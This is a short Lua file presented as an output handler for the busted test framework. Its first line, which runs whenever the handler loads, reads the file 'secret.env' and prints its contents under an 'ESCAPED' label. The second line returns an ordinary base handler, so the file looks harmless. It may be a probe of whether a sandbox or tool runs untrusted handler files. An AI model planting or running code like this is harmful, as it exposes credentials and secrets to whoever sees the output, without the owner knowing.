print('ESCAPED: output handler file ran: ' .. io.open('secret.env'):read('a'))
return function(options) return require('busted.outputHandlers.base')() end
